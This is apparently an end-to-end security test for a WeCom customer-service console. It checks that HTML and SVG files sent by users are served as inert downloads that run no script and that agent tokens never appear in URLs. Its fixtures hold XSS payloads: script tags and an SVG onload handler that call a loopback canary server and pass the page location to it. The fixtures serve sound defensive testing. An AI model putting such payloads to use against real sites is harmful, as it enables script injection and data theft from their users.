'use strict';
// A WeChat user sends an HTML file and an SVG "image" with scripts (through the WeCom simulator, the bundled flow);
// the agent, signed in to the packaged console with an agent token, opens both. No script runs — neither the
// loopback canary the scripts would call nor the page global they would set is touched, also when a media URL is
// opened directly — and no URL the console loads or opens carries a credential. The bytes are served as inert
// downloads; another agent's token cannot read them.
const assert = require('node:assert/strict');
const fs = require('node:fs');
const http = require('node:http');
const browser = require('./browser');
const { useSandbox } = require('./sandbox');
const { hubIdle } = require('./hub-idle');
const { mintAgentToken } = require('../../dist/index.js');

/** A loopback server that records every request: what a script that ran would call. */
function canary() {
  /** @type {string[]} */
  const hits = [];
  const server = http.createServer((req, res) => {
    hits.push(String(req.url));
    res.setHeader('Access-Control-Allow-Origin', '*');
    res.end('pwned');
  });
  return {
    hits,
    listen: () => new Promise((r) => server.listen(0, '127.0.0.1', () => r(`http://127.0.0.1:${/** @type {import('node:net').AddressInfo} */ (server.address()).port}`))),
    close: () => new Promise((r) => server.close(() => r(undefined))),
  };
}

describe('e2e: user media never runs as a page of the bridge (packaged console, Chromium)', function () {
  this.timeout(120000);
  const sandbox = useSandbox();
  const run = Date.now().toString(36);
  const me = `inert-${run}`;
  const user = `evil-${run}`;
  let sb;
  let b;
  let page;
  let trap;
  let trapUrl;
  let alice;
  /** @type {string[]} every URL a page of the console's browser loads or opens (WebSockets included) */
  const urls = [];

  before(async function () {
    browser.requireBrowser();
    sb = await sandbox();
    await hubIdle(sb);
    trap = canary();
    trapUrl = await trap.listen();
    alice = mintAgentToken(sb.agentToken, me, { ttlSec: 3600 });
    b = await browser.launch({ locale: 'zh-CN' });
    b.context.on('request', (r) => urls.push(r.url()));
    b.context.on('page', (p) => p.on('websocket', (ws) => urls.push(ws.url())));
    page = await b.newPage();
    page.on('websocket', (ws) => urls.push(ws.url()));
  });
  after(async () => {
    if (b) await b.close();
    if (trap) await trap.close();
  });

  const html = () => Buffer.from(`<!doctype html><title>invoice</title><script>window.__pwned = 'html'; fetch('${trapUrl}/html?' + encodeURIComponent(location.href));</script>`);
  const svg = () => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${trapUrl}/svg-onload')"><script>window.__pwned = 'svg'; fetch('${trapUrl}/svg?' + encodeURIComponent(location.href));</script><rect width="10" height="10"/></svg>`);

  it('the agent signs in with its token typed in (no URL carries it) and gets the conversation', async function () {
    await page.goto(`${sb.url}wecom/console/`);
    await page.fill('#token', alice);
    await page.click('#connect');
    await page.waitForSelector('#conn-state[data-state="open"]', { timeout: 15000 });
    await sb.simulator.userSays({ channel: 'app', userId: user, text: '转人工' });
    const sel = `#active .conv[data-id$=":${user}"]`;
    await page.waitForSelector(sel, { timeout: 20000 });
    await page.click(sel);
  });

  /** Where this conversation's media begin in `urls` (in a full run, conversations other specs left queued may be
   * offered to alice too, and the console may load their pictures before ours is picked). */
  let ours = 0;

  it('an HTML file and an SVG "image" are shown as downloads; opening them runs nothing', async function () {
    ours = urls.length;
    await sb.simulator.userSends({ channel: 'app', userId: user, type: 'file', data: html(), contentType: 'text/html', filename: 'invoice.html' });
    await sb.simulator.userSends({ channel: 'app', userId: user, type: 'image', data: svg(), contentType: 'image/svg+xml', filename: 'photo.svg' });
    await page.waitForFunction(() => document.querySelectorAll('#history .media a.file').length === 2, null, { timeout: 20000 });
    assert.equal(await page.$$eval('#history .media img', (els) => els.length), 0, 'the SVG is not shown as a picture');
    const links = await page.$$('#history .media a.file');
    const names = [];
    for (const link of links) {
      const [download] = await Promise.all([page.waitForEvent('download', { timeout: 20000 }), link.click()]);
      names.push(download.suggestedFilename());
      const saved = fs.readFileSync(/** @type {string} */ (await download.path()));
      assert.ok(saved.includes(Buffer.from(trapUrl)), 'the download holds the bytes the user sent');
    }
    assert.deepEqual(names.sort(), ['invoice.html', 'photo.svg']);
    assert.equal(await page.evaluate(() => /** @type {any} */ (window).__pwned), undefined);
  });

  it('opened directly (new tab, with the credential as a header), a media URL is a download, never a page', async function () {
    const media = [...new Set(urls.slice(ours).filter((u) => u.includes('/wecom/ws/media/')))];
    assert.equal(media.length, 2, media.join('\n'));
    const tab = await b.context.newPage();
    await tab.setExtraHTTPHeaders({ Authorization: `Bearer ${alice}` });
    for (const u of media) {
      const res = await fetch(u, { headers: { authorization: `Bearer ${alice}` } });
      assert.equal(res.status, 200);
      assert.equal(res.headers.get('content-type'), 'application/octet-stream');
      assert.match(String(res.headers.get('content-disposition')), /^attachment;/);
      assert.equal(res.headers.get('x-content-type-options'), 'nosniff');
      assert.equal(res.headers.get('content-security-policy'), "sandbox; default-src 'none'");
      const [download] = await Promise.all([tab.waitForEvent('download', { timeout: 20000 }), tab.goto(u).catch(() => null)]);
      assert.ok(download, 'the browser saved it instead of rendering it');
      const bob = mintAgentToken(sb.agentToken, `bob-${run}`, { ttlSec: 600 });
      assert.equal((await fetch(u, { headers: { authorization: `Bearer ${bob}` } })).status, 403, "another agent's token cannot read alice's customer's media");
    }
    await tab.close();
  });

  it('no script ran and no URL the console loaded or opened carries a credential', async function () {
    assert.deepEqual(trap.hits, [], 'the canary was never called');
    assert.ok(urls.some((u) => /\/wecom\/ws(\?|$)/.test(u)), 'the WebSocket was recorded');
    for (const secret of [alice, sb.agentToken]) {
      const forms = [secret, encodeURIComponent(secret), Buffer.from(secret).toString('base64url')];
      const leaked = urls.filter((u) => forms.some((f) => u.includes(f)));
      assert.deepEqual(leaked, [], 'a credential in a URL');
    }
    assert.ok(urls.every((u) => !/[?&]token=/.test(u)), urls.join('\n'));
  });
});
